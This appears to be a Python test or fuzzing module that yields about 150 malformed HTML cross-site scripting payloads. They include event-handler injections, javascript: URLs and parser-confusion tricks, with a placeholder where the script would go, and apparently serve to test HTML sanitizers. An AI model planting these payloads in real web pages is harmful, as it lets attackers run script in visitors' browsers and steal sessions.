"""Tags and attributes that are not well written."""

from __future__ import annotations

from collections.abc import Iterator

_TAGS = (
    *("<img/src=x/onerror=@run@>", "<img src=x onerror=@run@", "<img src=x onerror=@run@<", "<img src=x onerror=@run@ <p>"),
    *("<img src=x:x onerror=@run@//", "<img\nsrc=x\nonerror=@run@>", "<img\rsrc=x\ronerror=@run@>", "<img\fsrc=x\fonerror=@run@>"),
    *("<img\x0bsrc=x onerror=@run@>", "<img\0src=x onerror=@run@>", "<i\0mg src=x onerror=@run@>", "<\0img src=x onerror=@run@>"),
    *("< img src=x onerror=@run@>", "<\timg src=x onerror=@run@>", "<\nimg src=x onerror=@run@>", "<%00img src=x onerror=@run@>"),
    *("<<img src=x onerror=@run@>", "<<<img src=x onerror=@run@>>>", "<a<img src=x onerror=@run@>", "<a <img src=x onerror=@run@>"),
    *("</img src=x onerror=@run@>", "</p><img src=x onerror=@run@></p>", "</ img src=x onerror=@run@>", "<//img src=x onerror=@run@>"),
    *("<IMG SRC=x ONERROR=@run@>", "<ImG sRc=x OnErRoR=@run@>", "<IMG \"\"\"><SCRIPT>@run@</SCRIPT>\">", "<img '''><img src=x onerror=@run@>'"),
    *("<img src=\"x\"onerror=\"@run@\">", "<img src='x'onerror='@run@'>", "<img src=\"x\" \"\" onerror=@run@>", "<img src=x\" onerror=@run@>"),
    *("<img src=x' onerror=@run@ '>", "<img src=`x` onerror=`@run@`>", "<img src=x a='>' onerror=@run@>", "<img src=x a=\">\" onerror=@run@>"),
    *("<img a=\"<!--\" src=x onerror=@run@>", "<img src=x onerror=@run@ a=\"-->\">", "<img =x src=x onerror=@run@>", "<img ==\"x\" src=x onerror=@run@>"),
    *("<img src=x src=y onerror=@run@>", "<img onerror=@run@ src=x onerror=y>", "<img alt=x alt=\"onerror=@run@\" src=x onerror=@run@>", "<img src onerror=@run@>"),
    *("<img src= onerror=@run@>", "<img src=\"\" onerror=@run@>", "<img src=x onerror=\"@run@", "<img src=x alt=\"\nonerror=@run@ \" onerror=@run@ \"\">"),
    *("<x y=\"'\"><img title='\"><img src=x onerror=@run@>'>", "<p title='<img src=x onerror=@run@>'", "<p title=<img src=x onerror=@run@>>", "<a title=\"</a><img src=x onerror=@run@>\">w</a>"),
    *("<a href=\"https://example.org/\" title='\"onmouseover=@run@ '>words</a>", "<a href='https://example.org/\"onmouseover=\"@run@'>words</a>", "<a href=https://example.org/\"onmouseover=@run@>words</a>"),
    *("<a href='https://example.org/?a=\"><img src=x onerror=@run@>'>words</a>", "<a href=\"https://example.org/#'onclick='@run@\">words</a>", "<a href=https://example.org/`onclick=@run@`>words</a>"),
    *("<img alt=\"&quot;onerror=@run@ x=&quot;\" src=x>", "<img alt='&#34;onerror=@run@ x=&#34;' src=@img@>", "<img alt=&quot;><img src=x onerror=@run@> src=x>", "<img alt=\"&gt;&lt;img src=x onerror=@run@&gt;\" src=@img@>"),
    *("<p lang='x\"onclick=\"@run@'>words</p>", "<p dir='ltr\"onclick=\"@run@'>words</p>", "<td colspan='1\"onclick=\"@run@'>words</td>", "<ol start='1\"onclick=\"@run@'><li>words</ol>"),
    *("<code class='language-x\" onclick=\"@run@'>words</code>", "<code class=\"language-x onclick=@run@\">words</code>", "<time datetime='2022\" onclick=\"@run@'>words</time>", "<img width='1\"onerror=\"@run@' src=x>"),
    *("<img height=1/onerror=@run@ src=x>", "<a hreflang='en\"onclick=\"@run@' href=https://example.org/>words</a>", "<details open='\"ontoggle=\"@run@'>words</details>", "<abbr title='\"><script>@run@</script>'>words</abbr>"),
    *("<a\u00a0href=javascript:@run@>words</a>", "<a\u3000onclick=@run@>words</a>", "<a/href=javascript:@run@>words</a>", "<a href\n=\njavascript:@run@>words</a>", "<a href = 'javascript:@run@'>words</a>"),
    *("<A HREF=javascript:@run@>words</A>", "<a HREF=javascript:@run@ href=https://example.org/>words</a>", "<a href=https://example.org/ HREF=javascript:@run@>words</a>", "<a href=\"javascript:@run@\"", "<a href=\"javascript:@run@\">"),
    *("<b/onclick=@run@ >words</b>", "<b//onclick=@run@ tabindex=1>words", "<b onclick=@run@/>words", "<b onclick=\"@run@\"\"\">words", "<b 'onclick=@run@'onclick=@run@>words", "<b onclick=@run@ x=`>words"),
    *("<div><p><b><i><u><a href=javascript:@run@>words", "</div></div></div></article></main></body><img src=x onerror=@run@>", "</h1></p></title></head><body onload=@run@>", "</a></b></li></ul></td></tr></table><img src=x onerror=@run@>"),
    *("<p><p><p><script>@run@<p>", "<html><html onclick=@run@><body><body onclick=@run@ onload=@run@>words", "<body/onload=@run@>", "<body onload=@run@", "<body><!-- --><body onpageshow=@run@>", "<html manifest=@load@>"),
    *("<bgsound src=javascript:@run@>", "<br size=\"&{@run@}\">", "<layer src=@load@></layer>", "<ilayer src=@load@></ilayer>", "<isindex type=image src=x onerror=@run@>", "<isindex action=javascript:@run@ type=submit>"),
    *("<marquee><script>@run@</script></marquee>", "<blink onclick=@run@ tabindex=0>words</blink>", "<nextid onclick=@run@>", "<spacer onclick=@run@>", "<multicol onclick=@run@ tabindex=0>words</multicol>", "<keygen autofocus onfocus=@run@>"),
    *("<command onclick=@run@>", "<menuitem onclick=@run@>words</menuitem>", "<portal src=@load@ onload=@run@></portal>", "<fencedframe onload=@run@></fencedframe>", "<geolocation onlocation=@run@></geolocation>", "<selectedcontent onclick=@run@>w</selectedcontent>"),
    *("<x" + "a" * 3000 + " onclick=@run@ tabindex=0>words", "<img " + "a=b " * 200 + "src=x onerror=@run@>", "<img alt=\"" + "&quot;" * 500 + "\" src=x onerror=@run@>", "<a " * 50 + "href=javascript:@run@>words</a>"),
)  # fmt: skip


def payloads() -> Iterator[str]:
    yield from _TAGS
